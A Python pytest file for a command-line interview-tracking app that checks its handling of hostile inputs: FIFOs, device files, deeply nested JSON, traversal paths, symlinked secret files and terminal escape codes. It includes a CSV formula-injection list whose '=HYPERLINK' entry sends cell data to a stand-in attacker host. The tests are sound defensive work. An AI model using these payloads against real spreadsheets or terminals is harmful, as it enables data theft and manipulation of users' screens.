"""Inputs nobody planned for: odd dates, hostile files in the vault folder, escape codes in a
company name, a passphrase source that floods or hangs, a broken config.

Each failure must be one clear line and exit 1, must not hang or eat the memory, and must lose
nothing. Files are real (FIFOs, `/dev/zero`, sparse files); commands that could hang run in a
subprocess with a time limit, so a regression fails instead of stalling the suite.

The same kinds of input met by the store alone are in tests/store/test_hostile_values.py, by the
running app in tests/tui/test_hostile_input_app.py, in a real terminal in
tests/e2e/test_hostile_terminal.py.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest
from conftest import ESCAPES, PROJECT_DIR, Laptop, Result, add, assert_error

from store.notes.due import board_items
from store.notes.templates import TemplateSet
from store.untrusted import MAX_REPLICA_BYTES

NOW = datetime(2026, 3, 2, 12, 0, tzinfo=UTC)


def run_cli(laptop: Laptop, *args: str, timeout: float = 60) -> Result:
    """The CLI in its own process: a hang is a `TimeoutExpired`, not a stalled suite."""
    env = {**os.environ, **laptop.env()}
    env.pop("FOLLOWUP_PASSWORD_COMMAND", None)
    done = subprocess.run(
        [
            sys.executable,
            "-c",
            "import sys, tui.cli; sys.exit(tui.cli.main())",
            "--vault",
            str(laptop.vault),
            *args,
        ],
        capture_output=True,
        text=True,
        timeout=timeout,
        cwd=PROJECT_DIR,
        env=env,
        stdin=subprocess.DEVNULL,
    )
    return Result(done.returncode, done.stdout, done.stderr)


# --- dates ------------------------------------------------------------------------------------


def test_a_huge_bad_date_is_quoted_in_a_short_error(laptop: Laptop) -> None:
    card = add(laptop)
    result = laptop.cli("edit", card, "--interviewed-at", "x" * 100_000)
    assert_error(result, "Bad date", "100,000 characters")
    assert len(result.err) < 300


def test_a_card_dated_at_the_edge_of_the_calendar_owes_no_note_and_does_not_crash(
    laptop: Laptop,
) -> None:
    """A replica or backup may hold a date no longer accepted from the keyboard."""
    session = laptop.session()
    far = datetime(9999, 12, 31, 23, 0, tzinfo=UTC)
    fields = {"company": "Edge", "role": "R", "interviewed_at": far, "promised_by": far.date()}
    session.change(lambda board: board.add(fields))
    templates = TemplateSet.for_vault(laptop.vault)
    assert board_items(session.board.all(), templates.all(), NOW, None, True) == []
    assert laptop.cli("due").code == 0
    assert laptop.cli("export", "--format", "ics").code == 0


# --- files in the vault folder that are not what they claim ------------------------------------


def test_a_replica_that_is_a_fifo_or_dev_zero_is_reported_and_does_not_hang(
    laptop: Laptop,
) -> None:
    add(laptop, "Acme")
    replicas = laptop.vault / "replicas"
    os.mkfifo(replicas / "aaaaaaaaaaaa.json")
    (replicas / "bbbbbbbbbbbb.json").symlink_to("/dev/zero")
    result = run_cli(laptop, "list", timeout=60)
    assert result.code == 0, result.err
    assert "Acme" in result.out
    assert result.err.count("not a regular file") == 2, result.err
    assert (replicas / "aaaaaaaaaaaa.json").exists()  # reported, never removed


def test_a_huge_sparse_replica_is_refused_without_being_read(laptop: Laptop) -> None:
    add(laptop, "Acme")
    sparse = laptop.vault / "replicas" / "cccccccccccc.json"
    with sparse.open("wb") as handle:
        handle.truncate(MAX_REPLICA_BYTES + 1)
    result = laptop.cli("list")
    assert result.code == 0 and "Acme" in result.out
    assert "bigger than the 256 MB allowed" in result.err
    assert sparse.stat().st_size == MAX_REPLICA_BYTES + 1


def test_a_stignore_that_is_a_fifo_does_not_hang(laptop: Laptop) -> None:
    add(laptop, "Acme")
    stignore = laptop.vault / ".stignore"
    stignore.unlink(missing_ok=True)
    os.mkfifo(stignore)
    result = run_cli(laptop, "list", timeout=60)
    assert result.code == 0 and "Acme" in result.out


# --- text that would drive the terminal ---------------------------------------------------------


def test_escape_codes_in_a_card_never_reach_the_terminal_from_list_or_show(
    laptop: Laptop,
) -> None:
    card = add(laptop, ESCAPES, "--role", "line1\nline2", "--notes", "a\x1b[5mb")
    listed = laptop.cli("list")
    shown = laptop.cli("show", card)
    for out in (listed.out, shown.out):
        assert "\x1b" not in out and "\x07" not in out and "\r" not in out
        assert "\u202e" not in out and "\x9b" not in out
        assert "]0;PWNED" in out and "RED" in out and "Corp" in out  # the rest is all there
    assert listed.out.count("\n") == 1  # a newline in a field does not split the row
    stored = json.loads(laptop.cli("export", "--format", "json").out)["cards"][0]["state"]
    assert stored["f"]["company"][0][0] == ESCAPES  # only the view drops them: nothing lost


# --- passphrase sources -----------------------------------------------------------------------


def test_a_password_file_that_is_dev_zero_is_refused_not_read(laptop: Laptop) -> None:
    add(laptop)
    laptop.password_file = Path("/dev/zero")
    result = run_cli(laptop, "list", timeout=60)
    assert_error(result, "FOLLOWUP_PASSWORD_FILE", "not a regular file")


# --- the config -------------------------------------------------------------------------------


def test_a_device_id_in_the_config_cannot_point_the_replica_outside_the_vault(
    laptop: Laptop,
) -> None:
    add(laptop)
    config = laptop.config_dir / "config.yaml"
    config.write_text('device_id: "../../escaped"\n')
    result = laptop.cli("add", "--company", "X")
    assert_error(result, "is not a device id")
    assert not (laptop.vault.parent / "escaped.json").exists()


@pytest.mark.parametrize(
    "text, words",
    [
        ("profile: [1, 2]\n", "profile should be a mapping"),
        ("keymap: 7\n", "keymap should be a mapping"),
        ("vault: [1]\n", "vault should be text"),
        ("\udcff", "not UTF-8"),
    ],
)
def test_a_config_with_wrong_types_is_one_clear_line(laptop: Laptop, text: str, words: str) -> None:
    config = laptop.config_dir / "config.yaml"
    config.write_bytes(text.encode("utf-8", "surrogateescape"))
    assert_error(laptop.cli("list"), words)


def test_a_lock_folder_that_cannot_be_made_is_a_clear_error(laptop: Laptop) -> None:
    add(laptop)
    locks = laptop.config_dir / "locks"
    for child in locks.iterdir():
        child.unlink()
    locks.rmdir()
    locks.write_text("not a folder")
    assert_error(laptop.cli("add", "--company", "X"), "lock file", "nothing was written")


# --- templates --------------------------------------------------------------------------------


def test_a_template_linking_outside_the_vault_is_not_read(laptop: Laptop, tmp_path: Path) -> None:
    secret = tmp_path / "id_rsa"
    secret.write_text("stage: interviewed\nsubject: PRIVATE-KEY\nbody: PRIVATE-KEY\n")
    (laptop.vault / "templates" / "steal.yaml").symlink_to(secret)
    templates = TemplateSet.for_vault(laptop.vault)
    assert "steal" not in [t.name for t in templates.all()]
    problems = " ".join(str(p) for p in templates.errors.values())
    assert "outside the templates folder" in problems


def test_on_a_terminal_no_command_output_can_send_escape_codes(laptop: Laptop) -> None:
    """A note template is plaintext anyone with the folder can edit, and YAML spells ESC as
    `\\e`: `compose` prints what it renders; on a terminal that is escaped, while a pipe still
    gets the exact text."""
    import pty

    card = add(laptop, "Acme")
    (laptop.vault / "templates" / "evil.yaml").write_text(
        'stage: interviewed\nsubject: "x"\nbody: "Hi\\e]0;PWNED\\a\\e[2J\\x9b2J {{ company }}"\n'
    )
    primary, secondary = pty.openpty()
    env = {**os.environ, **laptop.env()}
    code = "import sys, tui.cli; sys.exit(tui.cli.main())"
    argv = [sys.executable, "-c", code, "--vault", str(laptop.vault), "compose", card, "evil"]
    process = subprocess.Popen(argv, cwd=PROJECT_DIR, env=env, stdout=secondary, stderr=secondary)
    os.close(secondary)
    seen = b""
    while True:
        try:
            chunk = os.read(primary, 65536)
        except OSError:  # EIO: the other side closed
            break
        if not chunk:
            break
        seen += chunk
    os.close(primary)
    assert process.wait(timeout=60) == 0, seen
    assert b"PWNED" in seen and b"Acme" in seen
    assert b"\x1b" not in seen and b"\x07" not in seen and "\x9b".encode() not in seen
    piped = laptop.cli("compose", card, "evil")
    assert "\x1b]0;PWNED" in piped.out  # a pipe or a file still gets the exact text


def test_an_error_quoting_a_huge_value_stays_one_bounded_line() -> None:
    from tui.crash import MAX_ERROR_LINE, one_line

    line = one_line("bad: " + "\x1b[2J" + "x\n" * 100_000)
    assert "\n" not in line and "\x1b" not in line
    assert len(line) <= MAX_ERROR_LINE


# --- import and export ------------------------------------------------------------------------


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2", "@SUM(A1)", "'=x", "'hi"]


def test_csv_export_neutralises_formulas_and_import_gives_them_back(
    laptop: Laptop, tmp_path: Path
) -> None:
    import csv

    session = laptop.session()
    ids = [
        session.change(lambda board, t=text: board.add({"company": t, "notes": t}))
        for text in FORMULAS
    ]
    exported = tmp_path / "board.csv"
    assert laptop.cli("export", "--format", "csv", "-o", str(exported)).code == 0
    rows = list(csv.DictReader(exported.open(encoding="utf-8-sig", newline="")))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for cell in (row["company"], row["notes"]):
            assert not cell.startswith(("=", "+", "-", "@")), cell
    # Edited in a spreadsheet and read back: by id, the values are exactly what was typed.
    session = laptop.session()
    for card in ids:
        session.change(lambda board, c=card: board.edit(c, {"notes": "changed"}))
    assert laptop.cli("import", str(exported), "--apply").code == 0
    board = laptop.session().board
    for card, text in zip(ids, FORMULAS, strict=True):
        assert (board.card(card).company, board.card(card).notes) == (text, text)


@pytest.mark.parametrize(
    "content",
    ["[" * 100_000 + "]" * 100_000, '{"cards": ' + "[" * 50_000 + "]" * 50_000 + "}",
     '[{"company": "A", "round": ' + "9" * 5000 + "}]"],
)  # fmt: skip
def test_a_json_file_nested_absurdly_deep_or_with_huge_numbers_is_one_line(
    laptop: Laptop, tmp_path: Path, content: str
) -> None:
    path = tmp_path / "hostile.json"
    path.write_text(content)
    assert_error(laptop.cli("import", str(path)), "hostile.json", "not valid JSON")


def test_importing_a_fifo_or_a_device_does_not_hang(laptop: Laptop, tmp_path: Path) -> None:
    result = run_cli(laptop, "import", "/dev/zero", timeout=60)
    assert_error(result, "not a regular file")


def test_a_backup_never_carries_a_template_linked_from_outside(
    laptop: Laptop, tmp_path: Path
) -> None:
    secret = tmp_path / "id_rsa"
    secret.write_text("PRIVATE-KEY\n")
    (laptop.vault / "templates" / "steal.yaml").symlink_to(secret)
    backup = tmp_path / "backup.json"
    assert laptop.cli("export", "--format", "json", "-o", str(backup)).code == 0
    assert "PRIVATE-KEY" not in backup.read_text()


# --- the vault header -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "change, words",
    [
        ({"memory_kib": 4 * 1024 * 1024, "iterations": 64}, "outside the accepted range"),
        ({"memory_kib": 1024 * 1024, "iterations": 16}, "would take too long"),
        ({"lanes": True}, "outside the accepted range"),
    ],
)
def test_a_header_asking_for_hours_of_key_derivation_is_refused_before_deriving(
    laptop: Laptop, change: dict[str, object], words: str
) -> None:
    header_path = laptop.vault / "vault.json"
    header = json.loads(header_path.read_text())
    header["kdf"].update(change)
    header_path.write_text(json.dumps(header))
    assert_error(run_cli(laptop, "list", timeout=60), "vault.json", words)


def test_a_vault_header_that_is_a_fifo_or_huge_does_not_hang(laptop: Laptop) -> None:
    header_path = laptop.vault / "vault.json"
    header_path.unlink()
    os.mkfifo(header_path)
    assert_error(run_cli(laptop, "list", timeout=60), "vault.json", "not a regular file")
    header_path.unlink()
    header_path.write_text('{"a":' * 20_000)
    assert_error(laptop.cli("list"), "vault.json")


def test_a_replica_whose_header_is_nested_deep_is_reported_not_a_crash(laptop: Laptop) -> None:
    add(laptop, "Acme")
    (laptop.vault / "replicas" / "dddddddddddd.json").write_text("[" * 100_000 + "\n")
    result = laptop.cli("list")
    assert result.code == 0 and "Acme" in result.out
    assert "dddddddddddd.json" in result.err


# --- card states nobody's app would write -------------------------------------------------------


STAMP = "1795629024736.00000.bbbbbbbbbbbb"
HOSTILE_VALUES: dict[str, list[object]] = {
    "interviewed_at": ["9999-12-31T23:59:59Z", "0001-01-01T00:00:00+14:00", "garbage", 5, []],
    "promised_by": ["9999-12-31", "0001-01-01", "2026-02-30", 5],
    "created_at": ["garbage", 5],
    "stage": ["bogus", 5, None, ["interviewed"]],
    "outcome": ["banana", 5, {}],
    "interviewers": [[5], "x", [{"name": 5}], 7, [[1, 2]], [None]],
    "key_points": ["one", 5, [{"a": 1}], [None]],
    "tags": [5, {"a": 1}],
    "company": [{"a": 1}, None, ["a"], "\x1b]0;T\x07"],
    "notes": [5, {"a": [1]}, "a\x00b\x9b"],
    "deleted": ["yes", 5, "false"],
}


def hostile_backup() -> dict[str, object]:
    cards = []
    for field_name, values in HOSTILE_VALUES.items():
        for value in values:
            card_id = f"hostile{len(cards):05d}"
            state = {
                "f": {
                    "company": [["Hostile", STAMP]],
                    "created_at": [["2026-01-01T00:00:00Z", STAMP]],
                    field_name: [[value, STAMP]],
                },
                "t": {"e1": {"id": "e1", "kind": "created", "at": "2026-01-01T00:00:00Z"}},
            }
            cards.append({"id": card_id, "state": state})
    devices = {"bbbbbbbbbbbb": {"name": "\x1b]0;EVILDEV\x07"}}
    return {"format": "followup-tui-backup", "version": 1, "cards": cards, "devices": devices}


def test_a_backup_of_wrongly_typed_and_hostile_values_leaves_every_command_working(
    laptop: Laptop, tmp_path: Path
) -> None:
    """The view of a card is total: whatever a state holds, every command still runs."""
    backup = tmp_path / "hostile.json"
    backup.write_text(json.dumps(hostile_backup()))
    assert laptop.cli("import", str(backup), "--apply").code == 0
    listed = laptop.cli("list", "--all")
    assert listed.code == 0, listed.err
    count = sum(len(v) for v in HOSTILE_VALUES.values())
    assert listed.out.count("\n") == count
    for command in (
        ["due", "--all"], ["stats"], ["export", "--format", "csv"],
        ["export", "--format", "md", "--all"], ["export", "--format", "ics"], ["doctor"],
    ):  # fmt: skip
        result = laptop.cli(*command)
        assert result.code in (0, 1) and "unexpected error" not in result.err, (command, result)
    from tui.cli.cards import describe_card

    session = laptop.session()
    for card in session.board.all(include_deleted=True):
        json.dumps(card.to_json())
        assert "\x1b" not in describe_card(card, session.board)
        session.change(lambda board, c=card: board.move(c.id, "closed"))
    for card in session.board.all(include_deleted=True):
        assert card.stage == "closed"


def test_a_replica_with_a_card_id_this_app_never_makes_is_reported(laptop: Laptop) -> None:
    from store.errors import ReplicaUnreadable

    session = laptop.session()
    hostile = {"cards": {"\x1b]0;x\x07": {"f": {"company": [["X", STAMP]]}, "t": {}}}}
    with pytest.raises(ReplicaUnreadable, match="an id this app never makes"):
        session.board.merge(hostile, "replicas/bbbbbbbbbbbb.json")
    assert session.board.cards == {}


# --- several processes of one device at once ----------------------------------------------------


WRITER = """
import sys
from store.config import Config
from store.vault.crypto import Vault
from sync.folder import open_session

vault = Vault.unlock(sys.argv[1], sys.argv[2])
config = Config.load()
for i in range(int(sys.argv[4])):
    session = open_session(vault, config)  # what every CLI command does: read, then change
    card = session.change(lambda board: board.add({"company": f"{sys.argv[3]}-{i}"}))
    print(card, flush=True)
"""


def test_processes_of_one_device_adding_at_once_lose_no_card(laptop: Laptop) -> None:
    """`followup-tui add` in a loop in several shells of one laptop: every card is kept, even
    when another process replaces the replica between our read of it and our write."""
    from conftest import PASSPHRASE

    add(laptop, "first")
    env = {**os.environ, **laptop.env()}
    writers = [
        subprocess.Popen(
            [sys.executable, "-c", WRITER, str(laptop.vault), PASSPHRASE, name, "25"],
            cwd=PROJECT_DIR,
            env=env,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        for name in "ABCD"
    ]
    made: set[str] = set()
    for writer in writers:
        out, err = writer.communicate(timeout=300)
        assert writer.returncode == 0, err
        made |= set(out.split())
    assert len(made) == 100
    board = laptop.session().board
    assert made <= set(board.cards), f"lost: {sorted(made - set(board.cards))}"


def test_what_a_read_of_our_replica_remembers_is_the_file_it_read(laptop: Laptop) -> None:
    """Another process replacing our replica while we read it must not make us believe we have
    seen its version: then our next write would skip merging it, and its cards would be lost.

    A second writer replaces the file in a loop; whenever the replica says nothing changed on
    disk since its read, the file on disk must be exactly the bytes it read.
    """
    import threading

    from store.vault.changes import read_whole
    from store.vault.replica import Replica

    session = laptop.session()
    session.change(lambda board: [board.add({"company": f"Card {i}"}) for i in range(300)])
    writer = Replica(session.vault, session.device, session.replica.lock_path)
    writer.read()
    tables = session.board.tables_json()
    stop = threading.Event()

    def replace_again_and_again() -> None:
        while not stop.is_set():
            writer.write(tables)  # a fresh nonce each time: new bytes, same size
            stop.wait(0.002)

    thread = threading.Thread(target=replace_again_and_again)
    thread.start()
    stale = 0
    try:
        for _ in range(60):
            reader = Replica(session.vault, session.device, session.replica.lock_path)
            reader.read()
            on_disk = reader.path.read_bytes()
            # The file as it is now, named as the read names what it read: its last envelope.
            now_tip = read_whole(session.vault, on_disk, reader.path, None).position.tip
            if not reader.changed_on_disk() and now_tip != reader.digest:
                stale += 1
    finally:
        stop.set()
        thread.join()
    assert stale == 0


# --- the app ----------------------------------------------------------------------------------


@pytest.mark.parametrize("meta", ["x", [1], {"replica": "x"}, {"replica": {"written_at": 5}}])
def test_a_replica_whose_metadata_is_not_a_mapping_still_merges(
    laptop: Laptop, meta: object
) -> None:
    """Sealed with the vault's key (another laptop, a newer app or a bug): never a crash."""
    session = laptop.session()
    tables = {"cards": {}, "devices": {}, "meta": meta}
    blob = session.vault.seal("bbbbbbbbbbbb", json.dumps(tables).encode())
    (laptop.vault / "replicas" / "bbbbbbbbbbbb.json").write_bytes(blob)
    for command in (["list"], ["doctor"], ["sync"]):
        result = laptop.cli(*command)
        assert "unexpected error" not in result.err, (command, result.err)
        assert result.code in (0, 1)


# --- where an export goes ---------------------------------------------------------------------


def test_an_export_into_a_pipe_is_written_into_it_never_replacing_it(
    laptop: Laptop, tmp_path: Path
) -> None:
    """`-o >(gpg -c > backup.gpg)` or a named pipe: the bytes go into the pipe; the pipe is not
    swapped for a plaintext file (as it was, and as `/dev/full` was when run as root)."""
    import stat
    import threading

    add(laptop, "Acme")
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    result = run_cli(laptop, "export", "--format", "csv", "-o", str(fifo), timeout=60)
    assert_error(result, "a pipe nobody is reading from")
    got: list[bytes] = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()))
    reader.start()
    try:
        result = run_cli(laptop, "export", "--format", "csv", "-o", str(fifo), timeout=60)
    finally:
        if reader.is_alive():  # never leave the test blocked on the pipe
            with open(fifo, "wb"):
                pass
        reader.join()
    assert result.code == 0, result.err
    assert b"Acme" in got[0]
    assert stat.S_ISFIFO(fifo.stat().st_mode)


def test_output_the_system_refuses_is_one_line_not_an_unexpected_error(laptop: Laptop) -> None:
    add(laptop, "Acme")
    env = {**os.environ, **laptop.env()}
    code = "import sys, tui.cli; sys.exit(tui.cli.main())"
    for command in (["list"], ["export", "--format", "csv"]):
        with open("/dev/full", "w") as full:
            done = subprocess.run(
                [sys.executable, "-c", code, "--vault", str(laptop.vault), *command],
                cwd=PROJECT_DIR, env=env, stdout=full, stderr=subprocess.PIPE, text=True, timeout=60,
            )  # fmt: skip
        assert done.returncode == 1, done.stderr
        assert done.stderr == "followup-tui: cannot write the output (No space left on device).\n"


# --- folders that cannot be made --------------------------------------------------------------


def test_a_vault_where_no_folder_can_be_made_is_one_clear_line(
    laptop: Laptop, tmp_path: Path
) -> None:
    in_the_way = tmp_path / "a-file"
    in_the_way.write_text("not a folder")
    assert_error(laptop.cli("init", str(in_the_way / "vault")), "cannot create this folder")
    assert_error(laptop.cli("init", "  "), "Give the folder for the new vault")
    assert in_the_way.read_text() == "not a folder"


def test_a_file_where_the_templates_folder_should_be_is_one_clear_line(
    laptop: Laptop, tmp_path: Path
) -> None:
    add(laptop, "Acme")
    backup = tmp_path / "backup.json"
    assert laptop.cli("export", "--format", "json", "-o", str(backup)).code == 0
    templates = laptop.vault / "templates"
    for child in templates.iterdir():
        child.unlink()
    templates.rmdir()
    templates.write_text("in the way")
    assert_error(laptop.cli("templates", "--install"), "a file is in the way")
    imported = laptop.cli("import", str(backup), "--apply")
    assert imported.code == 0 and "templates not restored" in imported.err
    assert templates.read_text() == "in the way"


# --- the app in a real terminal (tmux) ----------------------------------------------------------
